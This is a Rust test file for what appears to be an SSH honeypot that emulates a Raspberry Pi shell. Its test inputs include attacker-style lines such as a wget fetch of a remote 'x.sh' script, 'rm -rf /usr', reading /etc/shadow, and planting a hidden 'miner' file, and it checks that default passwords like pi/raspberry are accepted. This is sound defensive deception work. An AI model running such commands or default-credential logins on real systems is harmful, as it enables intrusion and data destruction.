//! End-to-end dispatch over the bundled snapshot and coreutils plugin.

use std::path::PathBuf;
use std::sync::Arc;

use wana_kernel::{Dispatch, Host, Session, Vfs, discover};

fn assets() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../assets")
}

fn host() -> Arc<Host> {
    let vfs = Arc::new(Vfs::load_snapshot(assets().join("snapshots/minimal.json")).unwrap());
    let plugins = discover(&assets().join("plugins")).unwrap();
    Arc::new(
        Host::builder(vfs)
            .hostname("raspberrypi")
            .plugins(plugins)
            .build()
            .unwrap(),
    )
}

fn run(session: &Session, line: &str) -> String {
    session.dispatch(line);
    session.take_output()
}

#[test]
fn test_first_look_around() {
    let session = Session::new(host(), "pi", "203.0.113.7");

    assert_eq!(run(&session, "whoami"), "pi\n");
    assert_eq!(run(&session, "pwd"), "/home/pi\n");
    assert_eq!(run(&session, "hostname"), "raspberrypi\n");
    assert_eq!(run(&session, "cat /etc/hostname"), "raspberrypi\n");
    assert_eq!(run(&session, "echo hello   world"), "hello world\n");
    assert_eq!(
        run(&session, "uname -a"),
        "Linux raspberrypi 4.14.98-v7+ #1200 SMP Tue Feb 12 20:27:48 GMT 2019 armv7l GNU/Linux\n"
    );
    assert_eq!(run(&session, "ls /home"), "pi\n");
    assert_eq!(run(&session, "ls"), "");
    assert_eq!(run(&session, "ls -a"), ".  ..  .bashrc  .profile  .ssh\n");
}

#[test]
fn test_long_listing() {
    let session = Session::new(host(), "pi", "203.0.113.7");
    assert_eq!(
        run(&session, "ls -l /etc/hostname"),
        "-rw-r--r--  1 root root    12 Apr  8 10:12 /etc/hostname\n"
    );

    let out = run(&session, "ls -la /");
    assert!(out.starts_with("total "));
    assert!(out.contains("lrwxrwxrwx  1 root root     8 Apr  8 10:12 sbin -> usr/sbin\n"));
    assert!(out.contains("drwxrwxrwt"));
}

#[test]
fn test_permission_errors() {
    let session = Session::new(host(), "pi", "203.0.113.7");
    assert_eq!(
        run(&session, "cat /etc/shadow"),
        "cat: /etc/shadow: Permission denied\n"
    );
    assert_eq!(
        run(&session, "ls /root"),
        "ls: cannot open directory '/root': Permission denied\n"
    );
    assert_eq!(
        run(&session, "touch /etc/evil"),
        "touch: cannot touch '/etc/evil': Permission denied\n"
    );
    assert_eq!(
        run(&session, "cd /nope"),
        "-bash: cd: /nope: No such file or directory\n"
    );
    assert_eq!(run(&session, "cat /etc"), "cat: /etc: Is a directory\n");
}

#[test]
fn test_su_to_root() {
    let session = Session::new(host(), "pi", "203.0.113.7");
    assert_eq!(run(&session, "su"), "");
    assert_eq!(run(&session, "whoami"), "root\n");
    assert_eq!(run(&session, "id"), "uid=0(root) gid=0(root) groups=0(root)\n");
    assert_eq!(run(&session, "pwd"), "/root\n");
    assert!(run(&session, "cat /etc/shadow").starts_with("root:*:"));
    assert_eq!(session.prompt(), "root@raspberrypi:/root# ");
}

#[test]
fn test_root_cannot_delete_commands() {
    let session = Session::new(host(), "pi", "203.0.113.7");
    run(&session, "su");
    assert_eq!(
        run(&session, "rm /bin/ls"),
        "rm: cannot remove '/bin/ls': Permission denied\n"
    );
    assert_eq!(
        run(&session, "rm -rf /usr"),
        "rm: cannot remove '/usr': Permission denied\n"
    );
    assert_eq!(run(&session, "ls /bin/ls"), "/bin/ls\n");
    assert_eq!(run(&session, "whoami"), "root\n");
}

#[test]
fn test_mutations_persist_across_sessions() {
    let host = host();
    let first = Session::new(Arc::clone(&host), "pi", "203.0.113.7");
    assert_eq!(run(&first, "mkdir .x"), "");
    assert_eq!(run(&first, "cd .x"), "");
    assert_eq!(run(&first, "pwd"), "/home/pi/.x\n");
    assert_eq!(run(&first, "touch miner"), "");
    assert_eq!(
        run(&first, "mkdir /home/pi/.x"),
        "mkdir: cannot create directory '/home/pi/.x': File exists\n"
    );
    assert_eq!(run(&first, "mkdir -p /home/pi/.x"), "");

    // a different login sees the same files under its own home
    let second = Session::new(host, "admin", "198.51.100.2");
    assert_eq!(run(&second, "ls ~/.x"), "miner\n");
    assert_eq!(
        run(&second, "rm ~/.x"),
        "rm: cannot remove '~/.x': Is a directory\n"
    );
    assert_eq!(run(&second, "rm -rf ~/.x"), "");
    assert_eq!(
        run(&first, "ls /home/pi/.x"),
        "ls: cannot access '/home/pi/.x': No such file or directory\n"
    );
}

#[test]
fn test_dispatch_by_path_and_symlink() {
    let session = Session::new(host(), "pi", "203.0.113.7");
    assert_eq!(run(&session, "/bin/echo via path"), "via path\n");
    assert_eq!(run(&session, "ls /sbin"), "exit  logout\n");
    assert_eq!(
        run(&session, "/etc/passwd"),
        "/etc/passwd: Permission denied\n"
    );
    assert_eq!(
        run(&session, "wget http://203.0.113.9/x.sh"),
        "wget http://203.0.113.9/x.sh: command not found\n"
    );

    assert_eq!(
        session.dispatch("/sbin/exit"),
        Dispatch::Executed {
            command: "/sbin/exit".into()
        }
    );
    assert!(session.is_closed());
}

#[test]
fn test_history_and_help() {
    let session = Session::new(host(), "pi", "203.0.113.7");
    run(&session, "whoami");
    assert_eq!(run(&session, "history"), "    1  whoami\n    2  history\n");

    let help = run(&session, "help");
    assert!(help.contains(" cat\n"));
    assert!(help.contains(" whoami\n"));
}

#[test]
fn test_weak_password_intercept() {
    let host = host();
    let hooks = host.hooks();
    assert!(hooks.check_password("pi", "raspberry", "203.0.113.7"));
    assert!(hooks.check_password("root", "toor", "203.0.113.7"));
    assert!(!hooks.check_password("pi", "correct horse", "203.0.113.7"));
    assert!(!hooks.check_password("oracle", "oracle", "203.0.113.7"));
}

#[test]
fn test_login_message() {
    let session = Session::new(host(), "pi", "203.0.113.7");
    let message = session.login_message().unwrap();
    assert!(message.starts_with("Linux raspberrypi 4.14.98-v7+"));
    assert!(message.contains("ABSOLUTELY NO WARRANTY"));
    assert!(message.trim_end().ends_with("from 203.0.113.7"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn test_concurrent_sessions() {
    let host = host();
    let mut tasks = Vec::new();
    for i in 0..16 {
        let host = Arc::clone(&host);
        tasks.push(tokio::task::spawn_blocking(move || {
            let session = Session::new(host, &format!("bot{i}"), format!("192.0.2.{i}"));
            run(&session, &format!("mkdir /tmp/drop{i}"));
            run(&session, &format!("touch /tmp/drop{i}/payload"));
            run(&session, &format!("ls /tmp/drop{i}"))
        }));
    }
    for task in tasks {
        assert_eq!(task.await.unwrap(), "payload\n");
    }

    let session = Session::new(host, "pi", "203.0.113.7");
    let listing = run(&session, "ls /tmp");
    assert_eq!(listing.split_whitespace().count(), 16);
}
